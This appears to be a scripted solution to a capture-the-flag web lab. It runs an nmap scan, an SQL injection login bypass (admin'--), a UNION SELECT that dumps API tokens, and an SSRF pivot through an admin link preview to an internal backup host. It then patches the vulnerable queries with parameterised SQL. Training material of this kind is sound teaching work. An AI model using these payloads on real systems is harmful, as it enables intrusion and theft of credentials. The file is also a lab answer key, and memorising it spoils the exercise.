#!/bin/bash
# Scripted solution of web-sqli-pivot. Run on the `attacker` console as `trainee`, with
# DEV_PASSWORD set to the developer password given in the description of the objective `patch`.
# Follows the README's "How it is solved"; prints `ANSWER <objective> <value>` per flag/question
# and fixes both injectable queries over SSH (objective patch).
set -euo pipefail
: "${DEV_PASSWORD:?set DEV_PASSWORD to the password in the description of the objective patch}"

HOST=shop.kitahama.example
WORK=$(mktemp -d)
trap 'rm -rf "$WORK"' EXIT

# recon: every TCP port; the web site is the open port (other than 22) that speaks HTTP.
nmap -p- -T4 -oG "$WORK/scan.gnmap" "$HOST" >&2
ports=$(grep -o '[0-9]*/open/tcp' "$WORK/scan.gnmap" | cut -d/ -f1)
echo "open ports: $(echo $ports)" >&2
web_port=
for port in $ports; do
  [ "$port" = 22 ] && continue
  if curl -s -o /dev/null -m 5 -w '%{http_code}' "http://$HOST:$port/" | grep -q '^[23]'; then
    web_port=$port
    break
  fi
done
echo "ANSWER recon $web_port"
SHOP=http://$HOST:$web_port

# login-bypass: a quote breaks the query, a comment removes the password check.
curl -s --data-urlencode "username='" --data-urlencode 'password=x' "$SHOP/login" | grep -o 'sqlite3[^<]*' >&2 || true
curl -s -c "$WORK/jar.txt" -o /dev/null -w '%{http_code} %{redirect_url}\n' \
  --data-urlencode "username=admin'-- " --data-urlencode 'password=x' "$SHOP/login" >&2
admin_flag=$(curl -s -b "$WORK/jar.txt" "$SHOP/admin" | grep -o 'CYROP{[0-9a-f]*}' | head -n 1)
echo "ANSWER login-bypass $admin_flag"

# dump-token: UNION SELECT with the search's three columns.
token=$(curl -s -G --data-urlencode "q=zz' UNION SELECT name, token, 0 FROM api_tokens-- " "$SHOP/search" |
  grep -o '<td>backup-export</td><td>[^<]*</td>' | sed -E 's#^<td>backup-export</td><td>([^<]*)</td>$#\1#')
echo "ANSWER dump-token $token"

# pivot: backup.internal is not reachable from here, but the admin's link preview fetches for us.
curl -s -m 3 http://backup.internal:8000/ >&2 || echo 'backup.internal is not reachable from the attacker host' >&2
backup_flag=$(curl -s -b "$WORK/jar.txt" -G \
  --data-urlencode "url=http://backup.internal:8000/export?token=$token" "$SHOP/admin/preview" |
  grep -o 'CYROP{[0-9a-f]*}' | head -n 1)
echo "ANSWER pivot $backup_flag"

# patch: parameterise both queries with the developers' account; the loop restarts the shop.
sshpass -p "$DEV_PASSWORD" ssh -o StrictHostKeyChecking=accept-new -o UserKnownHostsFile="$WORK/known_hosts" \
  "shop@$HOST" 'bash -s' >&2 <<'REMOTE'
set -e
python3 - <<'PY'
import pathlib
app = pathlib.Path("/srv/app/shop.py")
code = app.read_text()
code = code.replace(
    """sql = "SELECT name, description, price FROM products WHERE name LIKE '%" + q + "%' ORDER BY name"  # VULNERABLE
        rows = db.execute(sql).fetchall()""",
    """sql = "SELECT name, description, price FROM products WHERE name LIKE ? ORDER BY name"
        rows = db.execute(sql, ("%" + q + "%",)).fetchall()""")
code = code.replace(
    """sql = "SELECT username, role FROM users WHERE username = '" + username + "' AND password_hash = '" + digest + "'"  # VULNERABLE
        row = db.execute(sql).fetchone()""",
    """sql = "SELECT username, role FROM users WHERE username = ? AND password_hash = ?"
        row = db.execute(sql, (username, digest)).fetchone()""")
assert "# VULNERABLE" not in code, "shop.py differs from the shipped version"
app.write_text(code)
print("shop.py patched")
PY
pkill -f 'python3 /srv/app/shop.py'
REMOTE

# Wait for the restarted shop, then make sure the injections are gone and search still works.
for _ in $(seq 1 20); do
  curl -s -o /dev/null -m 2 "$SHOP/" && break
  sleep 0.5
done
curl -s -G --data-urlencode 'q=Gyokuro' "$SHOP/search" | grep -q 'Gyokuro Yame'
if curl -s -G --data-urlencode "q=zz' UNION SELECT name, token, 0 FROM api_tokens-- " "$SHOP/search" | grep -q backup-export; then
  echo 'the search is still injectable' >&2
  exit 1
fi
code=$(curl -s -o /dev/null -w '%{http_code}' --data-urlencode "username=admin'-- " --data-urlencode 'password=x' "$SHOP/login")
echo "injected login now answers HTTP $code" >&2
[ "$code" = 200 ]
